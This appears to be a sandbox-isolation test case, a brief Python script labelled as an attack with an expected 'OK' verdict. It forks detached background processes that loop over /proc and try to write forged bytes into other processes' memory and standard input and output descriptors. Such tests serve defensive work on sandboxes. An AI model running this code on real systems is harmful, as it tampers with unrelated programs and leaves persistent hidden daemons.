# attack: waits in a daemon for processes, files and descriptors of the next program
# verdict: OK
import os

print("held", flush=True)
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        os.close(0), os.close(1), os.close(2)
        while True:
            for process in os.listdir("/proc"):
                for name in ("mem", "fd/0", "fd/1", "cwd/file"):
                    try:
                        os.write(os.open(f"/proc/{process}/{name}", os.O_WRONLY), b"forged")
                    except OSError:
                        pass
